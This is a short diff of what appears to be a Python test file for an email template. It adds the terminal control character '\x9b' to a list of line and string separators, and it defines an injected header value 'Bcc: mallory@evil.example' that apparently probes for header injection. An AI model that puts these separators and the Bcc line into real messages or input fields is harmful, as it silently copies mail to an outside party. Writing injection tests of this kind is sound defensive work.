@@ -57,8 +57,8 @@ LETTER = Letter(
     variables=VARIABLES,
 )
 
-# Every way that a line may end for one program or another, and two that end a string.
-SEPARATORS = ["\r\n", "\n", "\r", "\x00", "\x0b", "\x85", "\u2028"]
+# Every way that a line may end for one program or another, what ends a string, and what starts a terminal's command.
+SEPARATORS = ["\r\n", "\n", "\r", "\x00", "\x0b", "\x85", "\u2028", "\x9b"]
 INJECTED = "Bcc: mallory@evil.example"
 
 
